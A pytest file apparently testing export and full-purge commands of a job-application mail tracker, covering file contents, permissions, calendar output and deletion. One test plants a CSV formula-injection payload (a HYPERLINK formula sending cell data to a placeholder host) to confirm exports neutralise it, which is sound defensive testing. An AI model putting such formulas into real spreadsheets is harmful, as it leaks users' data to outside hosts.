"""`grace export` takes all along, and `grace purge --everything` leaves nothing."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from cases import berlin, put
from click.testing import Result
from icalendar import Calendar

from watcher.instance import single_instance
from watcher.store import ReflectionRow, Store

Run = Callable[..., Result]
PLANTED = "Zuckerrübenschnitzel"
TABLES = {
    *("applications", "mails", "cases", "history", "labels", "reflections", "feedback", "practice", "notes"),
    "letters",
}


def fill(store: Store) -> None:
    """Puts the planted word into every place where a word can be."""
    details = {"company": PLANTED, "role": PLANTED, "stage": "final"}
    put(store, subject=PLANTED, sender_name=PLANTED, details=details, reason=PLANTED)
    put(store, "", action="ignore", kind="other")
    at = berlin("2026-11-23T11:00")
    store.label(f"{1:064d}", "rejection", f"folder:home/{PLANTED}", at, "test")
    store.keep_text(f"{1:064d}", PLANTED.encode(), at, at, f"{PLANTED}@x.example", "labelled")
    store.reflect(ReflectionRow(1, "short", at, at, {"strengths": PLANTED}))
    store.add_feedback(1, at, positive=True, text=PLANTED, tag="cv")
    store.add_practice(1, at, "cv", PLANTED, "own")
    store.add_note(1, at, PLANTED)
    store.remark_on(1, "note", PLANTED, at)
    store.join(1, 1, at)
    store.letter("digest:2026-W47", "home", "laid down", at)
    store.about_to_save(f"{1:064d}")


def test_everything_is_in_the_one_file(run: Run, store: Store, home: Path) -> None:
    fill(store)
    result = run("export", "--json", str(home / "all.json"))
    assert result.exit_code == 0, result.stderr
    found = json.loads((home / "all.json").read_text(encoding="utf-8"))
    assert set(found) == TABLES
    assert {name for name, rows in found.items() if not rows} == set()
    assert [name for name, rows in found.items() if PLANTED not in json.dumps(rows, ensure_ascii=False)] == [
        "letters"
    ]
    assert [row["id"] for row in found["mails"]] == [1, 2]
    assert found["applications"][0]["mails"] == [1]
    assert found["applications"][0]["remarks"] == {"note": PLANTED}
    assert found["history"][0]["state"] == "cooling"


def test_a_table_each_in_a_folder_or_the_applications_alone(run: Run, store: Store, home: Path) -> None:
    fill(store)
    assert run("export", "--csv", str(home / "tables")).exit_code == 0
    assert {file.stem for file in (home / "tables").iterdir()} == TABLES
    raw = (home / "tables" / "applications.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    (row,) = csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
    assert (row["company"], row["standing"], row["mails"]) == (PLANTED, "closed", "[1]")
    assert run("export", "--csv", str(home / "one.csv")).exit_code == 0
    assert (home / "one.csv").read_bytes() == raw


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "  =", "＝", "\n@"])
def test_no_cell_is_a_formula(start: str, run: Run, store: Store, home: Path) -> None:
    evil = f'{start}HYPERLINK("https://t.example/?"&A1)'
    put(store, subject=evil, details={"company": evil, "role": "=1+1", "stage": "application"})
    store.add_note(1, berlin("2026-11-23T11:00"), evil)
    assert run("export", "--csv", str(home / "tables")).exit_code == 0
    for file in (home / "tables").iterdir():
        text = file.read_bytes().decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            assert not [
                cell for cell in row if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
            ]
    assert "'=1+1" in (home / "tables" / "applications.csv").read_text(encoding="utf-8-sig")


def test_all_that_is_written_is_for_its_owner_alone(run: Run, store: Store, home: Path) -> None:
    fill(store)
    (home / "dates.ics").write_text("")
    (home / "dates.ics").chmod(0o644)
    wanted = (
        "--csv",
        str(home / "tables"),
        "--json",
        str(home / "all.json"),
        "--ics",
        str(home / "dates.ics"),
    )
    result = run("export", *wanted)
    assert result.stdout.splitlines() == [
        f"Written: {home / name}" for name in ("all.json", "tables", "dates.ics")
    ]
    assert (home / "tables").stat().st_mode & 0o777 == 0o700
    files = [*(home / "tables").iterdir(), home / "all.json", home / "dates.ics"]
    assert {file.stat().st_mode & 0o777 for file in files} == {0o600}


def test_the_calendar_holds_interviews_and_doors_and_nothing_that_is_held_back(
    run: Run, store: Store, home: Path
) -> None:
    talk = {"company": "Birch", "role": "", "stage": "interview", "appointment": "2026-12-03T10:00+01:00"}
    sender = {"sender_name": "Ida Falk", "sender_address": "ida@birch.example"}
    put(store, "", kind="interview", delivered_at=berlin("2026-11-20T09:00"), details=talk, **sender)
    put(store, delivered_at=berlin("2026-11-24T18:00"))
    titles = []
    for now in ("2026-11-24T20:00+01:00", "2026-11-25T10:00+01:00"):
        assert run("export", "--ics", str(home / "dates.ics"), "--now", now).exit_code == 0
        calendar = Calendar.from_ical((home / "dates.ics").read_bytes())
        titles.append([str(one["summary"]) for one in calendar.walk("VEVENT")])
    again = "The same post may be tried again: Acme, Data Engineer"
    assert titles == [["Interview: Birch"], ["Interview: Birch", again]]


def test_without_a_wish_or_a_place_it_says_so(run: Run, store: Store, home: Path) -> None:
    assert run("export").exit_code == 2
    assert "--csv DIR" in run("export").stderr
    (home / "file").write_text("")
    result = run("export", "--csv", str(home / "file" / "x"))
    assert result.exit_code == 74
    assert "cannot be made" in result.stderr


# Deleting everything --------------------------------------------------------------------------------------


def bytes_of(folder: Path) -> bytes:
    return b"".join(file.read_bytes() for file in folder.rglob("*") if file.is_file())


def test_not_a_byte_of_it_is_left(run: Run, store: Store, home: Path) -> None:
    fill(store)
    data = home / "data"
    for name in ("report.html", "grace.db.damaged-20261101T100000", "scans/0123456789abcdef.jsonl"):
        (data / name).parent.mkdir(exist_ok=True)
        (data / name).write_text(PLANTED, encoding="utf-8")
    (data / "models" / "own-0123456789").mkdir(parents=True)
    (data / "models" / "own-0123456789" / "model.json").write_text(PLANTED, encoding="utf-8")
    (data / "models" / "current").write_text("own-0123456789")
    assert PLANTED.encode() in (data / "grace.db-wal").read_bytes(), "not all of it is in the first file"
    result = run("purge", "--everything", given="y\n")
    assert result.exit_code == 0, result.stderr
    assert not data.exists()
    assert PLANTED.encode() not in bytes_of(home)
    assert "config.toml" in result.stdout
    assert "In your mailbox" in result.stdout


def test_what_is_not_ours_stays(run: Run, store: Store, home: Path) -> None:
    fill(store)
    mine = [home / "data" / name for name in ("letter.txt", "models/boat.stl", "plots/garden.png")]
    for file in mine:
        file.parent.mkdir(exist_ok=True)
        file.write_text("mine")
    assert run("purge", "--everything", "--yes").exit_code == 0
    assert sorted(file for file in (home / "data").rglob("*") if file.is_file()) == sorted(mine)


def test_a_no_leaves_all_as_it_was(run: Run, store: Store, home: Path) -> None:
    fill(store)
    result = run("purge", "--everything", given="n\n")
    assert "Nothing was deleted." in result.stdout
    assert "grace.db" in result.stdout
    assert run("show", "1").exit_code == 0


def test_while_it_runs_nothing_is_deleted(run: Run, store: Store, home: Path) -> None:
    fill(store)
    with single_instance(home / "data"):
        result = run("purge", "--everything", "--yes")
    assert result.exit_code == 75
    assert "Stop it first" in result.stderr
    assert run("show", "1").exit_code == 0


def test_it_names_how_the_keyring_is_emptied(run: Run, store: Store, home: Path) -> None:
    config = home / "config.toml"
    config.write_text(
        config.read_text()
        + '[[account]]\nname = "work"\nkind = "imap"\nhost = "imap.example.org"\nuser = "robin"\n'
    )
    said = run("purge", "--everything", "--yes").stdout
    assert "  keyring del graceperiod:work robin\n" in said
    assert "graceperiod:home" not in said, "a Maildir has no password"


def test_where_nothing_is_kept_it_says_so(run: Run, home: Path) -> None:
    assert run("purge", "--everything").stdout == f"Nothing is kept in {home / 'data'}.\n"
